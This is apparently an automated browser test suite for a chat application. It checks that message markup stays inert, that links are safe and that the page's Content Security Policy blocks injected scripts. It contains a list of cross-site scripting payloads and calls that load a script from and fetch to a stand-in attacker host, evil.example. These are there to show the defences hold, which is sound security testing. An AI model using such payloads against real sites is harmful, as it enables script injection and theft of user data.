import { expect } from "bun:test";
import { RawPerson } from "#testkit/raw-client.ts";
import type { App } from "./app.ts";
import { becomes, story, useBrowser } from "./story.ts";

useBrowser();

const attacks = [
  "<script>window.caught = 1</script>",
  "<img src=x onerror=window.caught=1>",
  '"><svg onload=window.caught=1>',
  "javascript:window.caught=1",
  "[a link](javascript:window.caught=1)",
  "data:text/html,<script>window.caught=1</script>",
  "</textarea></script><script>window.caught=1</script>",
  "{{constructor.constructor('window.caught=1')()}}",
  '<a href="javascript:window.caught=1">click</a>',
  "&lt;img src=x onerror=window.caught=1&gt;",
  "<style>*{display:none}</style>",
  "<iframe srcdoc='<script>parent.caught=1</script>'></iframe>",
];

/** Elements that no message may bring into the page. */
function intruders(app: App): Promise<string[]> {
  return app.page.evaluate(() => {
    const foreign = "#app :is(script, img[src='x'], iframe, style, object, embed, svg[onload], form[action])";
    const links = [...document.querySelectorAll("#app a")].filter(
      (link) => !/^https?:$/.test((link as HTMLAnchorElement).protocol),
    );
    return [...document.querySelectorAll(foreign), ...links].map((element) => element.outerHTML);
  });
}

story("markup in messages and names stays text, wherever it is shown", async (world) => {
  const name = '<img src=x onerror="window.caught=1">';
  const ana = await world.join("Ana", { display_name: name });
  const bo = await world.join("Bo_");
  for (const app of [ana, bo]) app.page.on("dialog", () => app.page.evaluate(() => console.error("a dialog opened")));
  for (const text of attacks) await ana.send(text);
  for (const text of attacks) await bo.log.getByText(text, { exact: false }).first().waitFor();
  await bo.log.getByText(name, { exact: true }).waitFor();
  await bo.page.getByRole("button", { name: /^People/ }).click();
  await bo.page.getByRole("complementary", { name: "People" }).getByText(name).waitFor();
  await ana.composer.pressSequentially("typing");
  await bo.page.getByText(`${name} is typing`).waitFor();
  await ana.composer.fill("");
  await ana.page.goto("/settings/profile");
  await becomes(() => ana.page.getByLabel("Display name").inputValue(), name);
  for (const app of [ana, bo]) {
    expect(await intruders(app)).toEqual([]);
    expect(await app.page.evaluate(() => "caught" in window)).toBe(false);
  }
});

story("links lead where they say, in a tab that knows nothing of this one", async (world) => {
  const ana = await world.join("Ana");
  await ana.send("see https://example.org/a?b=c#d, and http://user:secret@example.com.");
  const link = ana.log.getByRole("link").first();
  await link.waitFor();
  expect(await link.getAttribute("href")).toBe("https://example.org/a?b=c#d");
  expect((await link.getAttribute("rel"))?.split(" ")).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));
  expect(await link.getAttribute("target")).toBe("_blank");
});

story("text that turns the reading direction around or is all one word breaks nothing", async (world) => {
  await RawPerson.register(world.server.url, "Bo_");
  const ana = await world.join("Ana");
  const texts = [
    "\u202eneercs siht no desrever",
    `one word ${"x".repeat(3_000)}`,
    "Z\u0335\u0321\u0353\u0349\u0352\u035a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309 algo",
    `${"😀".repeat(400)}`,
    "שלום לכולם, this is mixed",
    "مرحبا بالعالم",
    "\u200b\u200bhidden",
    "a\n".repeat(60).trim(),
  ];
  await world.writeHistory(texts, ["Bo_", "Ana"]);
  await ana.log.getByText("مرحبا بالعالم").waitFor();
  expect(await ana.overflow()).toBe(0);
  expect(await ana.log.evaluate((log) => log.scrollWidth - log.clientWidth)).toBe(0);
  const direction = (text: string) =>
    ana.log
      .getByText(text)
      .first()
      .evaluate((element) => getComputedStyle(element.closest("[dir]") ?? element).direction);
  expect(await direction("مرحبا بالعالم")).toBe("rtl");
  await ana.send("left to right");
  await ana.message("left to right").waitFor();
  expect(await direction("left to right")).toBe("ltr");
  for (const time of await ana.log.locator("article time").all()) {
    expect(await time.evaluate((element) => getComputedStyle(element.parentElement as Element).direction)).toBe("ltr");
  }
});

story("the page's policy stops scripts that somebody got into it, by whatever way", async (world) => {
  const ana = await world.join("Ana");
  ana.visitor.expect(/Content Security Policy|policy violated|TrustedScript|TrustedHTML|This document requires/);
  const caught = await ana.page.evaluate(() => {
    const ways: (() => void)[] = [
      () => (document.body.innerHTML += "<img src=x onerror='window.caught=1'>"),
      () => {
        const script = document.createElement("script");
        script.textContent = "window.caught = 1";
        document.body.append(script);
      },
      () => {
        const script = document.createElement("script");
        script.setAttribute("src", "https://evil.example/x.js");
        document.body.append(script);
      },
      () => document.body.setAttribute("onclick", "window.caught = 1"),
      () => void new Worker("/workers/x.js"),
      // biome-ignore lint/security/noGlobalEval: that it is refused is what this proves
      () => window.eval("window.caught = 1"),
      () => void new Function("window.caught = 1")(),
      () => document.write("<script>window.caught = 1</script>"),
    ];
    const tryAll = () => {
      for (const way of ways) {
        try {
          way();
        } catch {
          // Refused, as it should be.
        }
      }
      document.body.click();
    };
    // In a turn of its own: what the test itself evaluates is excused from the policy.
    return new Promise<boolean>((resolve) => {
      setTimeout(() => {
        tryAll();
        setTimeout(() => resolve("caught" in window));
      });
    });
  });
  expect(caught).toBe(false);
  const leak = await ana.page.evaluate(() =>
    fetch("https://evil.example/").then(
      () => "sent",
      () => "refused",
    ),
  );
  expect(leak).toBe("refused");
});
